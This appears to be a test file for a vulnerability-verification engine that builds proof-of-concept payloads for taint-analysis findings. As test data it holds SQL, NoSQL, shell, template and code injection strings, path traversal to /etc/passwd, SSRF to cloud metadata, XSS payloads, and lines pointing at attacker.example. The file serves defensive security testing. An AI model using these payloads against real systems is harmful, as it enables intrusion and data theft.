import { expect, it } from 'vitest';
import type { ShapePart } from '../../../src/engine/results/candidate.ts';
import { checkPayload } from '../../../src/engine/verification/check-payload.ts';
import { fitPayload } from '../../../src/engine/verification/payloads.ts';
import { candidate } from '../support/candidate.ts';

/** `@` stands for the tainted hole, `?` for an unknown part. */
function shape(text: string): ShapePart[] {
  return text
    .split(/([@?])/)
    .filter((part) => part !== '')
    .map((part) =>
      part === '@' ? { hole: 'tainted' } : part === '?' ? { hole: 'unknown' } : { fixed: part },
    );
}

it.each([
  ['sql-injection', "SELECT * FROM t WHERE a = '@'", `' OR '1'='1' -- `, 'supports'],
  ['sql-injection', 'SELECT * FROM t WHERE a = "@"', `" OR "1"="1" -- `, 'supports'],
  ['sql-injection', "SELECT * FROM t WHERE a LIKE '%@%'", `' OR '1'='1' -- `, 'supports'],
  ['sql-injection', "SELECT 'it''s' FROM t WHERE a = @", '1 OR 1=1', 'supports'],
  ['sql-injection', 'SELECT * FROM t ORDER BY @', '(CASE WHEN (1=1) THEN 1 ELSE 2 END)', 'supports'],
  ['sql-injection', '@', 'SELECT 1', 'supports'],
  ['command-injection', 'ping -c 1 @', '; id #', 'supports'],
  ['command-injection', "ping -c 1 '@'", "'; id #", 'supports'],
  ['command-injection', 'ping -c 1 "@"', '$(id)', 'supports'],
  ['path-traversal', '@', '/etc/passwd', 'supports'],
  ['path-traversal', '/srv/files/@', '../../../../../../etc/passwd', 'supports'],
  ['path-traversal', '/srv/files/@.html', '../../../../../../etc/passwd', 'weakens'],
  ['path-traversal', '/srv/@?', '../../../../../../etc/passwd', 'supports'],
  ['ssrf', '@', 'http://169.254.169.254/latest/meta-data/', 'supports'],
  ['ssrf', 'https://@/status', '169.254.169.254/latest/meta-data/', 'supports'],
  ['ssrf', 'https://api.shop.net@', '@169.254.169.254/latest/meta-data/', 'supports'],
  ['ssrf', 'https://api.shop.net/@', '../', 'refutes'],
  ['open-redirect', '@', 'https://attacker.example/', 'supports'],
  ['open-redirect', '/@', '/attacker.example/', 'supports'],
  ['open-redirect', '/login?next=@', '../', 'refutes'],
  ['xss', '<p>@</p>', '<img src=x onerror=alert(document.domain)>', 'supports'],
  ['xss', '<input value="@">', '"><img src=x onerror=alert(document.domain)>', 'supports'],
  ['xss', '<a href="@">', 'javascript:alert(document.domain)', 'supports'],
  ['xss', "<script>var a = '@';</script>", "'-alert(document.domain)-'", 'supports'],
  ['xss', '<div class=@>', 'x onmouseover=alert(document.domain) ', 'supports'],
  ['nosql-injection', '@', '{"$ne":null}', 'supports'],
  ['nosql-injection', "MATCH (u {name: '@'}) RETURN u", `' OR '1'='1`, 'supports'],
  ['nosql-injection', "this.name == '@'", `' || '1'=='1`, 'supports'],
  ['nosql-injection', '{"name": "@"}', '", "$or": [{}], "x": "', 'supports'],
  ['code-injection', "return '@'", "' + require('node:child_process').execSync('id') + '", 'supports'],
])('%s in %j', (category, text, value, outcome) => {
  expect(fitPayload(candidate({ shape: shape(text) }), category)).toMatchObject({
    value,
    outcome,
    isJudged: true,
  });
});

it.each([
  ['app.py', `' + __import__('os').popen('id').read() + '`],
  ['page.php', `' . shell_exec('id') . '`],
  ['app.rb', "' + `id` + '"],
])('runs a command in the language of %s', (file, value) => {
  expect(fitPayload(candidate({ file, shape: shape("return '@'") }), 'code-injection')?.value).toBe(value);
});

it.each([
  ['<Illuminate.Database.Eloquent.Builder>.orderByRaw', '(CASE WHEN (1=1) THEN 1 ELSE 2 END)'],
  ['Arel.sql', '(CASE WHEN (1=1) THEN 1 ELSE 2 END)'],
  ['Post.whereRaw', '1=1'],
  ['<dbapi.Cursor>.execute', 'SELECT 1'],
])('gives %s the part of a statement that it takes', (sinkApi, value) => {
  expect(fitPayload(candidate({ sinkApi, shape: shape('@') }), 'sql-injection')?.value).toBe(value);
});

it.each([
  ['Analytics.select', 'analytics.rb', '(SELECT 1)'],
  ['Illuminate.Support.Facades.DB.select', 'Report.php', 'SELECT 1'],
])('gives %s in %s what it takes there', (sinkApi, file, value) => {
  expect(fitPayload(candidate({ sinkApi, file, shape: shape('@') }), 'sql-injection')?.value).toBe(value);
});

it.each([
  ['app.js', '{"isAdmin":true}'],
  ['user.rb', '{"is_admin":true}'],
])('fills a field as %s names it', (file, value) => {
  expect(fitPayload(candidate({ file, shape: shape('@') }), 'mass-assignment')?.value).toBe(value);
});

it('gives a template engine options where it looks for them among the values of a page', () => {
  const given = candidate({ sinkApi: '<express.Response>.render', sinkArgument: 1, shape: shape('@') });
  expect(fitPayload(given, 'template-injection')).toMatchObject({
    value: '{"layout":"/etc/passwd"}',
    isJson: true,
  });
});

it('says of what is not known around a path that it is not', () => {
  const found = fitPayload(candidate({ shape: shape('/srv/@/x?.php') }), 'path-traversal');
  expect(found?.where).toBe('after a fixed beginning of the path, but the path must end in "/x….php"');
});

it('starts a program by its path where no shell is involved', () => {
  const spawned = candidate({ sinkApi: 'child_process.execFile', sinkArgument: 0, shape: shape('@') });
  expect(fitPayload(spawned, 'command-injection')?.value).toBe('/usr/bin/id');
});

it.each([
  ['template-injection', 'mako.template.Template', 'app.py', '@', '\u0024{7*7}'],
  ['template-injection', 'erb', 'app.rb', '@', '<%= 7*7 %>'],
  ['template-injection', 'jinja2.Template', 'app.py', '@', '{{7*7}}'],
  ['code-injection', '<redis.Redis>.eval', 'app.py', "get('@')", "' .. redis.call('INFO') .. '"],
  ['code-injection', 'params.klass.constantize', 'app.rb', '@', 'Kernel'],
  ['code-injection', 'call_user_func_array', 'a.php', '@', 'phpinfo'],
  ['code-injection', 'System.Type.GetType', 'A.cs', '@', 'System.Random'],
  ['header-injection', 'smtplib.SMTP().sendmail', 'app.py', '@', 'x\r\nBcc: someone@attacker.example'],
  ['header-injection', '<flask.Response>.headers.set', 'app.py', '@', 'x\r\nSet-Cookie: injected=1'],
])('%s of %s is written in the language it is read in', (category, sinkApi, file, text, value) => {
  expect(fitPayload(candidate({ sinkApi, file, shape: shape(text) }), category)?.value).toBe(value);
});

it('promises no class of its own where only a part of the name can be chosen', () => {
  const found = candidate({
    sinkApi: 'java.lang.Class.forName',
    file: 'A.java',
    shape: shape('shop.jobs.@'),
  });
  expect(fitPayload(found, 'code-injection')).toMatchObject({
    outcome: 'weakens',
    where: 'as a part of the name of a class, of which the rest is fixed',
  });
});

it('puts JavaScript into code that MongoDB runs, and an operator into a query', () => {
  const given = { sinkApi: '$where', shape: shape("this.name == '@'") };
  const code = candidate({ ...given, ruleId: 'code/mongo-code-injection' });
  expect(fitPayload(code, 'nosql-injection')?.value).toBe("' || '1'=='1");
  const query = candidate({ sinkApi: '<mongodb.Collection>.find', shape: shape('@') });
  expect(fitPayload(query, 'nosql-injection')?.value).toBe('{"$ne":null}');
});

it('runs code of a page in the browser', () => {
  const source = { kind: 'dom-location', expression: 'location.hash' };
  expect(fitPayload(candidate({ source, shape: shape('@') }), 'code-injection')?.value).toBe(
    'alert(document.domain)',
  );
});

it('gives a payload without judging it where the string is not known', () => {
  expect(fitPayload(candidate({ shape: null }), 'sql-injection')).toMatchObject({ isJudged: false });
  expect(checkPayload(candidate({ shape: null }), 'sql-injection', 3000).check.outcome).toBe(
    'not-applicable',
  );
});

it('has none for flaws without flow and for categories without input', () => {
  expect(fitPayload(candidate({ source: null }), 'sql-injection')).toBeNull();
  expect(fitPayload(candidate(), 'weak-hash')).toBeNull();
  expect(fitPayload(candidate(), 'constructor')).toBeNull();
});

it.each([
  ['Number(id)', ' '],
  ['encodeURIComponent(id)', ' '],
])('sees that a payload does not survive %s', (code) => {
  const step = { kind: 'sanitizer', file: 'a.js', line: 1, code } as const;
  const { check, proofOfConcept } = checkPayload(
    candidate({ trace: [step], shape: shape('SELECT "@"') }),
    'sql-injection',
    3000,
  );
  expect(check.outcome).toBe('weakens');
  expect(proofOfConcept).toBeNull();
});

it('sees that a single quote survives encodeURIComponent', () => {
  const step = { kind: 'sanitizer', file: 'a.js', line: 1, code: 'encodeURIComponent(name)' } as const;
  const { check } = checkPayload(candidate({ trace: [step], shape: shape("<script>f('@')") }), 'xss', 3000);
  expect(check).toMatchObject({ outcome: 'supports', detail: expect.stringContaining('single quotes') });
});

it.each([
  ['A.java', 'ScriptEngine.eval', 'java.lang.Runtime.getRuntime().exec("id")'],
  ['A.java', 'SpelExpressionParser.parseExpression', 'T(java.lang.Runtime).getRuntime().exec("id")'],
  ['A.java', 'ognl.Ognl.getValue', '@java.lang.Runtime@getRuntime().exec("id")'],
  ['A.java', 'org.mvel2.MVEL.compileExpression', 'java.lang.Runtime.getRuntime().exec("id")'],
  ['a.go', '<github.com/dop251/goja.Runtime>.RunString', '7*7'],
  ['a.go', '<github.com/yuin/gopher-lua.LState>.DoString', 'os.execute("id")'],
  ['A.cs', 'CSharpScript.EvaluateAsync', 'System.Diagnostics.Process.Start("id")'],
])('code is written in the language of %s', (file, sinkApi, value) => {
  expect(fitPayload(candidate({ file, sinkApi, shape: shape('@') }), 'code-injection')?.value).toBe(value);
});

it.each([
  ['<org.thymeleaf.TemplateEngine>.process', '[[${7*7}]]'],
  ['freemarker.template.Template', '${7*7}'],
  ['github.com/flosch/pongo2.FromString', '{{7*7}}'],
])('a template is written as %s reads it', (sinkApi, value) => {
  expect(fitPayload(candidate({ sinkApi, shape: shape('@') }), 'template-injection')?.value).toBe(value);
});

it.each([
  ['<a href>', 'javascript:alert(document.domain)'],
  ['<html.script>.src', 'https://attacker.example/x.js'],
  ['<html.iframe>.src', 'javascript:alert(document.domain)'],
  ['jQuery().html', '<img src=x onerror=alert(document.domain)>'],
])('a whole address in %s is %s', (sinkApi, value) => {
  expect(fitPayload(candidate({ sinkApi, shape: shape('@') }), 'xss')).toMatchObject({ value });
});

it.each([
  ['<StackExchange.Redis.IDatabase>.ScriptEvaluate', "redis.call('INFO')"],
  ['<NLua.Lua>.DoString', 'os.execute("id")'],
])('%s runs code of another language than the file', (sinkApi, value) => {
  const found = fitPayload(candidate({ file: 'Tool.cs', sinkApi, shape: shape('@') }), 'code-injection');
  expect(found?.value).toBe(value);
});

it.each([
  ['pickle.loads', /^cposix\nsystem/, 'application/octet-stream'],
  ['jsonpickle.decode', /py\/reduce/, 'application/json'],
  ['yaml.load', /^!!python/, 'application/yaml'],
  ['unserialize', /^O:8/, 'text/plain'],
  ['node-serialize.unserialize', /_\$\$ND_FUNC/, 'application/json'],
  ['<com.thoughtworks.xstream.XStream>.fromXML', /^<map>/, 'application/xml'],
  ['<com.fasterxml.jackson.databind.ObjectMapper>.readValue', /InetAddress/, 'application/json'],
])(
  '%s is shown an object in its own language, which says nothing of whether the flaw is there',
  (sinkApi, value, bodyType) => {
    const payload = fitPayload(candidate({ sinkApi, shape: shape('@') }), 'unsafe-deserialization');
    expect(payload).toMatchObject({ value: expect.stringMatching(value), bodyType, isJudged: false });
  },
);

it('knows no payload for a library of which no harmless object is known', () => {
  const unknown = candidate({ sinkApi: '<com.esotericsoftware.kryo.Kryo>.readObject', shape: shape('@') });
  expect(fitPayload(unknown, 'unsafe-deserialization')).toBeNull();
});

it('sends encoded what is decoded on its way, and bytes as they are otherwise', () => {
  const decoded = (code: string) =>
    candidate({
      sinkApi: 'Marshal.load',
      shape: shape('@'),
      trace: [{ kind: 'sink', file: 'app.rb', line: 1, code }],
    });
  expect(fitPayload(decoded('Marshal.load(Base64.decode64(x))'), 'unsafe-deserialization')).toMatchObject({
    value: 'BAhvOgtPYmplY3QA',
  });
  expect(fitPayload(decoded('Marshal.load(x)'), 'unsafe-deserialization')).toMatchObject({
    expression: "Buffer.from('BAhvOgtPYmplY3QA', 'base64')",
    isBinary: true,
  });
  expect(fitPayload(decoded('db.query(atob(x))'), 'command-injection')?.value).toBe(
    Buffer.from('id').toString('base64'),
  );
});

it('sends a part of an object as the text of that object', () => {
  const parameter = {
    location: 'query' as const,
    name: 'filter',
    within: ['user', 'name'],
    isText: true as const,
  };
  const trace = (...lines: string[]) =>
    lines.map((code, at) => ({ kind: 'call' as const, file: 'app.js', line: at + 1, code }));
  const sent = (category: string, lines: string[]) =>
    fitPayload(
      candidate({
        shape: shape('@'),
        entryPoint: { kind: 'route', path: '/', parameter },
        trace: trace(...lines),
      }),
      category,
    );
  const text = '{"user":{"name":"id"}}';
  expect(sent('command-injection', ['JSON.parse(x)', 'run(y.user.name)'])?.value).toBe(text);
  expect(sent('command-injection', ['JSON.parse(atob(x))', 'run(y.user.name)'])?.value).toBe(btoa(text));
  expect(sent('command-injection', ['JSON.parse(x)', 'z = y.user.name', 'run(atob(z))'])?.value).toBe(
    '{"user":{"name":"aWQ="}}',
  );
  expect(sent('mass-assignment', ['JSON.parse(x)', 'save(y.user.name)'])?.value).toBe(
    '{"user":{"name":{"isAdmin":true}}}',
  );
});

it('sends an object that is decoded on its way as a text', () => {
  const decoded = candidate({
    sinkApi: 'User.update',
    shape: shape('@'),
    trace: [
      { kind: 'sink', file: 'app.php', line: 1, code: 'User::update(json_decode(base64_decode($x), true))' },
    ],
  });
  const payload = fitPayload(decoded, 'mass-assignment');
  expect(payload?.value).toBe(Buffer.from('{"isAdmin":true}').toString('base64'));
  expect(payload).not.toHaveProperty('isJson');
});

it.each([
  ['shop.php', 'proof.php'],
  ['Shop.java', 'proof.jsp'],
  ['shop.py', 'proof.html'],
])('uploads to %s what is run or shown there', (file, value) => {
  expect(fitPayload(candidate({ file, shape: shape('@') }), 'unrestricted-upload')?.value).toBe(value);
});

it.each([
  [`$n = str_replace("'", '', $_GET['n']);`, '</script><img src=x onerror=alert(document.domain)>'],
  [`$n = str_replace('<', '', $_GET['n']);`, `'-alert(document.domain)-'`],
  [`$n = preg_replace('/[<>]/', '', $_GET['n']);`, `'-alert(document.domain)-'`],
])('gets out of a script by what is left: %s', (code, value) => {
  const trace = [{ kind: 'sanitizer' as const, file: 'a.php', line: 1, code }];
  const found = candidate({ shape: shape("<script>name = '@';"), trace });
  expect(fitPayload(found, 'xss')?.value).toBe(value);
});
